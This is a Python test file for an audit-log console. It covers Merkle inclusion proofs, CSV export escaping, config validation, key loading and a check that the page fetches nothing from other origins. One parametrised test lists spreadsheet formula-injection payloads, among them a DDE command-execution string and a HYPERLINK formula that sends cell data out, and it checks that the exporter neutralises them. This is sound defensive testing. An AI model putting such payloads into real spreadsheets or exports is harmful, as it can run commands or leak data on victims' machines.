"""The console's pure parts: proofs from one block, CSV cells, the config section, keys."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from indexer.query.console.config import ConsoleConfig, ConsoleConfigError
from indexer.query.console.export import CSV_COLUMNS, csv_cell, csv_header, csv_row
from indexer.query.console.keys import load_public_keys
from otel_audit.integrity import CompactRange, ProofError, inclusion_proof, verify_inclusion
from otel_audit.integrity.block_proof import audit_path_from_block
from otel_audit.integrity.keys import generate_private_key, key_id, write_key_pair
from otel_audit.integrity.merkle import root_hash


def _leaves(n: int) -> list[bytes]:
    return [hashlib.sha256(i.to_bytes(8, "big")).digest() for i in range(n)]


@settings(max_examples=300, deadline=None)
@given(st.integers(0, 300), st.integers(1, 120), st.data())
def test_a_path_from_one_block_is_the_path_from_the_whole_chain(
    first_leaf: int, count: int, data: st.DataObject
) -> None:
    leaves = _leaves(first_leaf + count)
    before = CompactRange()
    before.extend(leaves[:first_leaf])
    _, frontier = before.state()
    index = data.draw(st.integers(first_leaf, first_leaf + count - 1))
    path = audit_path_from_block(first_leaf, frontier, leaves[first_leaf:], index)
    assert path == inclusion_proof(leaves, index, len(leaves))
    verify_inclusion(leaves[index], index, len(leaves), path, root_hash(leaves))


def test_a_path_from_one_block_refuses_what_it_cannot_prove() -> None:
    leaves = _leaves(12)
    cr = CompactRange()
    cr.extend(leaves[:5])
    _, frontier = cr.state()
    with pytest.raises(ProofError, match="not in the block"):
        audit_path_from_block(5, frontier, leaves[5:], 4)
    with pytest.raises(ProofError, match="frontier"):
        audit_path_from_block(5, frontier[:-1], leaves[5:], 7)


@pytest.mark.parametrize(
    "value",
    [
        "=1+2",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =cmd|' /C calc'!A0",
        "\uff1d1+1",
        '=HYPERLINK("http://x/?"&A1,"y")',
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_text(value: str) -> None:
    cell = csv_cell(value)
    parsed = next(csv.reader(io.StringIO(cell)))
    assert parsed == ["'" + value]


def test_csv_rows_quote_everything_and_keep_values() -> None:
    doc = {
        "@timestamp": "2026-01-01T00:00:00Z",
        "event": {"id": "e-1", "action": "invoice.update"},
        "audit": {"resource": {"id": 'a "quoted",\r\nmulti-line value', "type": "invoice"}},
        "related": {"user": ["a", "b"]},
        "message": None,
    }
    text = csv_header() + csv_row(doc)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert rows[0]["event.id"] == "e-1"
    assert rows[0]["audit.resource.id"] == 'a "quoted",\r\nmulti-line value'
    assert rows[0]["message"] == ""
    assert csv_cell(42) == '"42"' and csv_cell(["x", "y"]) == '"x y"'


def test_console_config_names_the_bad_key() -> None:
    with pytest.raises(ConsoleConfigError, match=r"console\.max_export_events"):
        ConsoleConfig(max_export_events=0)
    with pytest.raises(ConsoleConfigError, match=r"console\.checkpoint_stale_after_s"):
        ConsoleConfig(checkpoint_stale_after_s=0)
    with pytest.raises(ConsoleConfigError, match=r"console.public_keys\[0\]"):
        ConsoleConfig(public_keys=("",))


def test_public_keys_from_files_and_directories(tmp_path: Path) -> None:
    key = generate_private_key()
    files = write_key_pair(key, tmp_path / "keys")
    from_dir = load_public_keys([str(tmp_path / "keys")])  # the private key is skipped
    from_file = load_public_keys([str(files.public_key_path)])
    assert [k.key_id for k in from_dir] == [k.key_id for k in from_file] == [key_id(key)]
    with pytest.raises(ConsoleConfigError, match=r"public_keys\[0\].*no such file"):
        load_public_keys([str(tmp_path / "missing.pem")])
    with pytest.raises(ConsoleConfigError, match="private key"):
        load_public_keys([str(files.private_key_path)])


def test_the_page_loads_nothing_from_elsewhere() -> None:
    """Shipped files reference only same-origin paths: nothing fetched from the internet."""
    import re
    from importlib import resources

    static = resources.files("indexer.query.console") / "static"
    names = sorted(p.name for p in static.iterdir())
    assert names == ["console.css", "console.js", "index.html", "verify.js"]
    for name in names:
        text = (static / name).read_text(encoding="utf-8")
        assert not re.search(r"""(src|href)=["'](https?:)?//""", text), name
        assert not re.search(r"""\b(import|fetch)\s*\(?\s*["'](https?:)?//""", text), name
        assert "@import" not in text and "url(http" not in text, name
